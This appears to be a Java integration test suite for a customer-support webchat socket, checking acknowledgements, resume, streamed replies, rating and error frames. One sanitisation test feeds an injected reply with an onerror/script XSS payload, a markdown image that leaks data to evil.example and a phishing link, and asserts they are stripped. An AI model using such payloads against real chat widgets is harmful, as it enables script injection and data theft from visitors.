package dev.switchboard.webchat;

import static dev.switchboard.TenantFixtures.ACME;
import static dev.switchboard.TenantFixtures.ACME_AGENT;
import static dev.switchboard.TenantFixtures.tenantId;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.switchboard.PlatformTest;
import dev.switchboard.TenantFixtures;
import dev.switchboard.TestApi;
import dev.switchboard.conversation.Conversations;
import dev.switchboard.conversation.MessageRole;
import dev.switchboard.conversation.NewMessage;
import dev.switchboard.conversation.Outbound;
import dev.switchboard.shared.TenantScope;
import dev.switchboard.shared.db.OwnerDatabase;
import dev.switchboard.webchat.socket.SocketsOnThisNode;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import tools.jackson.databind.JsonNode;

/**
 * A visitor's conversation over the socket: acknowledgements, history and resume by seq, replies streamed and
 * committed, a human's messages marked as such, the rating at the end; and the error frames for bad input.
 */
@PlatformTest
class WebchatSocketTest {

    static final String SITE = "http://localhost:8080";
    private static final UUID ACME_ID = tenantId(ACME);

    @Autowired
    TestApi api;
    @Autowired
    Outbound outbound;
    @Autowired
    Conversations conversations;
    @Autowired
    OwnerDatabase owner;
    @Autowired
    TenantFixtures fixtures;
    @Autowired
    ApplicationContext context;

    private final List<WidgetClient.Socket> open = new java.util.ArrayList<>();

    @AfterEach
    void closeSockets() {
        open.forEach(WidgetClient.Socket::close);
    }

    @Test
    void theHandshakeSelectsTheProtocolAndAMessageIsAcknowledgedAndEchoedWithItsSeq() {
        WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session());
        assertThat(socket.protocol()).isEqualTo("webchat.v1");
        socket.hello(null, 0);

        String id = WidgetClient.newClientId();
        socket.say(id, "hola, quiero cancelar mi visita");

        JsonNode ack = socket.await("ack", f -> f.path("id").asString().equals(id));
        assertThat(ack.path("seq").asLong()).isEqualTo(1);
        assertThat(ack.path("duplicate").asBoolean()).isFalse();
        JsonNode echo = socket.await("message", f -> f.path("clientId").asString().equals(id));
        assertThat(echo.path("role").asString()).isEqualTo("customer");
        assertThat(echo.path("conversationId").asString()).isEqualTo(ack.path("conversationId").asString());
        socket.await("typing", f -> f.path("role").asString().equals("ai"));
    }

    @Test
    void aResentMessageIdIsStoredOnceAndAcknowledgedWithTheOriginalSeq() {
        WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
        WidgetClient.Socket socket = connect(widget).hello(null, 0);
        String id = WidgetClient.newClientId();
        socket.say(id, "first try");
        JsonNode first = socket.await("ack", f -> f.path("id").asString().equals(id));

        WidgetClient.Socket again = connect(widget).hello(first.path("conversationId").asString(), first.path("seq").asLong());
        again.say(id, "first try");
        JsonNode second = again.await("ack", f -> f.path("id").asString().equals(id));

        assertThat(second.path("duplicate").asBoolean()).isTrue();
        assertThat(second.path("seq").asLong()).isEqualTo(first.path("seq").asLong());
        assertThat(customerMessages(widget.visitorId())).isEqualTo(1);
        again.settle();
        assertThat(again.frames("message")).filteredOn(f -> f.path("role").asString().equals("customer")).isEmpty();
        assertThat(socket.frames("message")).filteredOn(f -> f.path("clientId").asString().equals(id)).hasSize(1);
    }

    @Test
    void aReconnectingWidgetGetsWhatItMissedOnceAndInOrder() {
        WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
        WidgetClient.Socket socket = connect(widget).hello(null, 0);
        UUID conversation = quietConversation(socket, "hello");
        reply(conversation, "first answer");
        JsonNode seen = socket.await("message", f -> f.path("text").asString().equals("first answer"));
        assertThat(deliveryStatus(seen)).isEqualTo("delivered");
        socket.close();
        await().atMost(Duration.ofSeconds(10)).until(() -> !SocketsOnThisNode.holdAny(context, ACME_ID, widget.visitorId()));

        reply(conversation, "second answer");
        reply(conversation, "third answer");
        WidgetClient.Socket resumed = connect(widget).hello(conversation.toString(), seen.path("seq").asLong());
        resumed.await("message", f -> f.path("text").asString().equals("third answer"));
        resumed.settle();

        assertThat(resumed.frames("message")).extracting(f -> f.path("text").asString())
                .containsExactly("second answer", "third answer");
        assertThat(deliveryStatus(resumed.frames("message").getFirst())).as("stored while no socket was open")
                .isEqualTo("sent");

        WidgetClient.Socket reloaded = connect(widget).hello(conversation.toString(), 0);
        reloaded.await("message", f -> f.path("text").asString().equals("third answer"));
        assertThat(reloaded.frames("message")).extracting(f -> f.path("seq").asLong()).isSorted().doesNotHaveDuplicates();
        assertThat(reloaded.frames("message")).extracting(f -> f.path("text").asString())
                .contains("hello", "first answer", "second answer", "third answer");
    }

    @Test
    void aReconnectMidReplyShowsTheWholeDraftThenTheRestThenTheCommittedReply() {
        WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
        WidgetClient.Socket socket = connect(widget).hello(null, 0);
        UUID conversation = quietConversation(socket, "when does the technician arrive?");
        UUID turn = UUID.randomUUID();
        stream(conversation, turn, "The technician ");
        stream(conversation, turn, "arrives ");
        socket.await("delta", f -> f.path("offset").asInt() == 15);
        socket.close();

        stream(conversation, turn, "at 10:00 ");
        WidgetClient.Socket resumed = connect(widget).hello(conversation.toString(), lastSeq(socket));
        JsonNode draft = resumed.await("delta", f -> f.path("turnId").asString().equals(turn.toString()));
        assertThat(draft.path("offset").asInt()).isZero();
        assertThat(draft.path("text").asString()).isEqualTo("The technician arrives at 10:00 ");

        stream(conversation, turn, "tomorrow.");
        JsonNode rest = resumed.await("delta", f -> f.path("offset").asInt() == 32);
        assertThat(rest.path("text").asString()).isEqualTo("tomorrow.");
        TenantScope.run(ACME_ID, () -> outbound.send(conversation,
                NewMessage.text(MessageRole.AI, "The technician arrives at 10:00 tomorrow.").withTurn(turn)));
        JsonNode committed = resumed.await("message", f -> f.path("turnId").asString().equals(turn.toString()));
        assertThat(committed.path("turnId").asString()).isEqualTo(turn.toString());
        assertThat(assembled(resumed.frames("delta"))).isEqualTo("The technician arrives at 10:00 tomorrow.");
    }

    @Test
    void aHumanAgentsMessageIsMarkedWithTheirName() {
        WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session()).hello(null, 0);
        UUID conversation = startConversation(socket, "I want a person");
        UUID agent = fixtures.user(ACME_AGENT).id();
        TenantScope.run(ACME_ID, () -> {
            conversations.take(conversation, agent);
            outbound.send(conversation, NewMessage.fromHuman(agent, "Ana", "Hola, soy Ana. ¿En qué te ayudo?"));
        });

        socket.await("status", f -> f.path("status").asString().equals("human"));
        JsonNode human = socket.await("message", f -> f.path("role").asString().equals("human"));
        assertThat(human.path("author").asString()).isEqualTo("Ana");
        assertThat(human.path("text").asString()).isEqualTo("Hola, soy Ana. ¿En qué te ayudo?");
    }

    @Test
    void htmlAndRemoteImagesInARepliesReachTheWidgetInert() {
        WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session()).hello(null, 0);
        UUID conversation = quietConversation(socket, "show me");
        reply(conversation, "Mira <img src=https://evil.example/p.png onerror=alert(1)><script>steal()</script>"
                + "![mapa](https://evil.example/leak?d=C-1001) [detalles](https://acme.example/v/7) "
                + "[paga aquí](https://evil.example/pay)");

        JsonNode message = socket.await("message", f -> f.path("text").asString().startsWith("Mira"));
        String text = message.path("text").asString();
        assertThat(text).doesNotContain("<img", "<script", "steal", "evil.example", "onerror");
        assertThat(text).isEqualTo("Mira mapa [detalles](https://acme.example/v/7) paga aquí");
    }

    @Test
    void theVisitorEndsTheConversationAndRatesItOnce() {
        WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session()).hello(null, 0);
        // A human holds it, so the offline agent cannot end it first (it ends a conversation that says goodbye).
        UUID conversation = quietConversation(socket, "hello, I have a question");
        socket.send(Map.of("type", "rate", "conversationId", conversation.toString(), "score", 5));
        socket.await("error", f -> f.path("code").asString().equals("not_closed"));

        socket.send(Map.of("type", "end"));
        socket.await("closed", f -> f.path("conversationId").asString().equals(conversation.toString()));
        socket.send(Map.of("type", "rate", "conversationId", conversation.toString(), "score", 5));
        socket.await("rated", f -> f.path("score").asInt() == 5);
        socket.send(Map.of("type", "rate", "conversationId", conversation.toString(), "score", 1));
        socket.await("error", f -> f.path("code").asString().equals("already_rated"));

        assertThat(owner.jdbc().sql("select csat from conversations where id = :id").param("id", conversation)
                .query(Integer.class).single()).isEqualTo(5);
    }

    @Test
    void anOversizedMessageGetsAClearErrorAndIsNotStored() {
        WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
        WidgetClient.Socket socket = connect(widget).hello(null, 0);
        String id = WidgetClient.newClientId();

        socket.say(id, "x".repeat(4001));

        JsonNode error = socket.await("error", f -> f.path("id").asString().equals(id));
        assertThat(error.path("code").asString()).isEqualTo("message_too_large");
        assertThat(error.path("limit").asInt()).isEqualTo(4000);
        assertThat(customerMessages(widget.visitorId())).isZero();

        socket.say(WidgetClient.newClientId(), "y".repeat(70_000));
        assertThat(socket.awaitClose()).isEqualTo(1009);
        assertThat(customerMessages(widget.visitorId())).isZero();
    }

    @Test
    void aFloodOfMessagesIsRateLimitedPerVisitor() {
        WidgetClient widget = new WidgetClient(api, ACME, SITE).session();
        WidgetClient.Socket socket = connect(widget).hello(null, 0);
        for (int i = 0; i < 22; i++) {
            socket.say(WidgetClient.newClientId(), "message " + i);
        }
        JsonNode limited = socket.await("error", f -> f.path("code").asString().equals("rate_limited"));
        assertThat(limited.path("retryAfterMs").asLong()).isPositive();
        socket.await("ack", f -> f.path("seq").asLong() == 20);
        assertThat(customerMessages(widget.visitorId())).isEqualTo(20);
    }

    @Test
    void malformedFramesGetAnErrorAndTheSocketStaysUsable() {
        WidgetClient.Socket socket = connect(new WidgetClient(api, ACME, SITE).session());
        socket.send("not json");
        socket.await("error", f -> f.path("code").asString().equals("invalid_frame"));
        socket.send(Map.of("type", "message", "id", "short", "text", "hi"));
        socket.send(Map.of("type", "launch-missiles"));
        socket.send(Map.of("type", "ping"));
        socket.await("pong", f -> true);
        assertThat(socket.frames("error")).hasSize(3);
    }

    UUID startConversation(WidgetClient.Socket socket, String text) {
        String id = WidgetClient.newClientId();
        socket.say(id, text);
        return UUID.fromString(socket.await("ack", f -> f.path("id").asString().equals(id)).path("conversationId").asString());
    }

    /**
     * A conversation the offline agent answered once and a human then took, so that only what a test sends
     * reaches the visitor from then on.
     */
    UUID quietConversation(WidgetClient.Socket socket, String text) {
        UUID conversation = startConversation(socket, text);
        socket.await("message", f -> f.path("role").asString().equals("ai"));
        UUID agent = fixtures.user(ACME_AGENT).id();
        TenantScope.run(ACME_ID, () -> conversations.take(conversation, agent));
        socket.await("status", f -> f.path("status").asString().equals("human"));
        return conversation;
    }

    void reply(UUID conversation, String text) {
        TenantScope.run(ACME_ID, () -> outbound.send(conversation, NewMessage.text(MessageRole.AI, text)));
    }

    void stream(UUID conversation, UUID turn, String delta) {
        TenantScope.run(ACME_ID, () -> outbound.openStream(conversations.get(conversation), turn).delta(delta));
    }

    WidgetClient.Socket connect(WidgetClient widget) {
        WidgetClient.Socket socket = widget.connect();
        open.add(socket);
        return socket;
    }

    int customerMessages(String visitorId) {
        return owner.jdbc().sql("""
                select count(*) from messages m join conversations c on c.tenant_id = m.tenant_id and c.id = m.conversation_id
                 where c.tenant_id = :t and c.channel_address = :a and m.role = 'customer'""")
                .param("t", ACME_ID).param("a", visitorId).query(Integer.class).single();
    }

    String deliveryStatus(JsonNode messageFrame) {
        UUID id = UUID.fromString(messageFrame.path("id").asString());
        long deadline = System.nanoTime() + 5_000_000_000L;
        String status = null;
        while (System.nanoTime() < deadline) {
            status = owner.jdbc().sql("select delivery_status from messages where id = :id").param("id", id)
                    .query(String.class).single();
            if (!"queued".equals(status)) {
                break;
            }
            Thread.onSpinWait();
        }
        return status;
    }

    static long lastSeq(WidgetClient.Socket socket) {
        return socket.frames("message").stream().mapToLong(f -> f.path("seq").asLong()).max().orElse(0);
    }

    /** What a widget shows for the deltas it received, applying each at its offset as the widget does. */
    static String assembled(List<JsonNode> deltas) {
        StringBuilder draft = new StringBuilder();
        for (JsonNode d : deltas) {
            int offset = d.path("offset").asInt();
            String text = d.path("text").asString();
            if (offset <= draft.length() && offset + text.length() > draft.length()) {
                draft.append(text.substring(draft.length() - offset));
            }
        }
        return draft.toString();
    }
}
